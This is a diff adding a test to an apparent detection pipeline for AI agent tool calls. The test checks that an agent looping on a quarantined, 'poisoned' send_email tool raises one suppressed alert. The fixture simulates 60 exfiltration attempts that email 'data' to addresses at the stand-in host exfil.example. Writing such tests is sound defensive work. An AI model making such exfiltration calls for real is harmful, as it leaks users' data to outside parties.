@@ -119,6 +119,25 @@ describe('detector pipeline (real worker and API on the embedded sqlite bus and 
     expect(exfiltration).toHaveLength(1);
   });
 
+  it('raises one repeated-blocked-calls alert for an agent looping on a quarantined tool, and counts the firings it suppressed', async () => {
+    const loop = new TelemetryBuilder('mail-loop');
+    await detector.publish([loop.initialize(), loop.toolsList([SEND_EMAIL])]);
+    await detector.waitFor(async () => (await detector.api('GET', '/api/tools/mail-loop/send_email')).status === 200, 'mail-loop/send_email seen');
+    expect((await detector.api('POST', '/api/tools/mail-loop/send_email/quarantine', { body: { reason: 'poisoned' } })).status).toBe(200);
+    // The collector refuses each call at once (10 ms apart): 60 calls, a firing every third, 20 in all.
+    const blocked = { 'palisade.outcome': 'blocked', 'error.type': 'quarantined', 'palisade.block.reason': 'tool quarantined: poisoned' } as const;
+    await detector.publish(Array.from({ length: 60 }, (_, i) => loop.call('send_email', { to: `x${i}@exfil.example`, body: 'data' }, 'refused', blocked)));
+
+    // Events, alerts and engine state are stored in one batch: once the last call is stored, all of it is.
+    await detector.waitFor(async () => (await detector.api<Page<unknown>>('GET', '/api/events?server=mail-loop&limit=1')).body.total === 62, 'the 62 mail-loop events stored');
+    const alerts = (await detector.api<Page<Alert>>('GET', '/api/alerts?ruleId=palisade.repeated-blocked-calls&server=mail-loop&limit=500')).body.items;
+    expect(alerts).toHaveLength(1);
+    expect(alerts[0]).toMatchObject({ tool: 'send_email', severity: 'high' });
+    expect(alerts[0]!.evidence.details).toMatchObject({ suppressSeconds: 600 });
+    const rules = (await detector.api<Page<{ id: string; hits: number; suppressed: number; suppressSeconds?: number }>>('GET', '/api/rules')).body.items;
+    expect(rules.find((r) => r.id === 'palisade.repeated-blocked-calls')).toMatchObject({ hits: 1, suppressed: 19, suppressSeconds: 600 });
+  });
+
   it('keeps benign traffic below medium and records it as searchable events', async () => {
     const calc = new TelemetryBuilder('calculator');
     const mail = new TelemetryBuilder('mailer');
